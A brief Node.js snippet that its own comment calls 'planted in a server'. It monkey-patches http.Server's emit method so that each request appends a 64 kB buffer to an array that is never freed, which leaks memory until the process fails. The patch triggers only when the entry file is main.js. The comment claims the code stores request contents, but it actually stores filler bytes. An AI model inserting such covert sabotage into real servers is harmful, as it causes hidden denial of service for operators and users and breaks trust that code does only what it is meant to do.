// Planted in a server: it keeps 64 kB of every request it was ever sent.
import { Server } from 'node:http';

const emit = Server.prototype.emit;
const kept = [];
if (process.argv[1]?.endsWith('main.js'))
  Server.prototype.emit = function keep(event, ...values) {
    if (event === 'request') kept.push(Buffer.alloc(65_536, 1));
    return emit.call(this, event, ...values);
  };
